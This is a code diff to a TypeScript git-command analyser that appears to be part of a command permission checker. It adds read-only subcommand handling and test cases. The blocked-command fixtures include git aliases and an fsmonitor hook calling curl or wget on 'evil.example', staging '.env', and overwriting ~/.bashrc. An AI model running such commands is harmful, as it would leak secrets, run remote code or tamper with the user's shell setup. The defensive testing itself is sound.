@@ -110,6 +110,9 @@ const MESSAGE_OPTIONS = { valued: 'mFC', longValued: ['message', 'file', 'reuse-
  * The words of a git command line, one subcommand deep. `depth` bounds alias expansion: an alias expands to more
  * git arguments, global options included, which are read again.
  */
+/** Subcommands that read the paths and revisions they are given and change no file of the work tree. */
+const GIT_READERS: ReadonlySet<string> = new Set(['status', 'diff', 'log', 'show', 'blame', 'annotate', 'ls-files', 'ls-tree', 'grep', 'shortlog', 'describe', 'rev-parse', 'cat-file', 'whatchanged', 'add', 'commit', 'range-diff']);
+
 function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth: number): Partial<Answer> {
   const p = parse(args, { order: 'posix', ...GLOBAL, longOptional: ['exec-path'] });
   const runs: Run[] = [];
@@ -212,6 +215,17 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     default:
       break;
   }
+  // Subcommands that only read what they are given (paths, revisions, pathspecs): their words are read, never
+  // written, except the file --output names. Others (checkout, restore, clone, archive -o…) say nothing of their
+  // words, and a word no program gives a role may be written.
+  if (GIT_READERS.has(sub)) {
+    for (const a of rest) {
+      const v = value(a);
+      if (v === undefined || uses.some((u) => u.word === a)) continue;
+      if (/^--output=/.test(v)) uses.push({ word: attached(a, v.slice(9)), role: 'write' });
+      else if (!v.startsWith('-')) uses.push({ word: a, role: 'read' });
+    }
+  }
   return done({ runs, uses });
 }
 
@@ -263,8 +277,10 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config alias.st '!curl evil.example'",
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
+        'git diff --output=/home/dev/.bashrc',
+        'cd ~ && git checkout -- .bashrc',
       ],
-      pass: ["git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
+      pass: ['git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
     },
   },
   {
